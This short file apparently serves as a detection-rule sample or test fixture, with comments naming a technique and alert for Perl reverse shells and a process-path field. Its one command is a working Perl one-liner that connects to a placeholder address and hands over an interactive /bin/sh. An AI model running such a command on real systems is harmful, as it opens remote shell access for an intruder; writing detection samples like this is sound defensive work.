# SPDX-License-Identifier: Apache-2.0
# technique: Perl gets a reverse shell as one line
# alert: One-line program that opens a shell
# field: proc.exepath=*/perl*
perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); if (connect(S,sockaddr_in(4499,inet_aton("192.0.2.1")))) { exec("/bin/sh -i"); }'
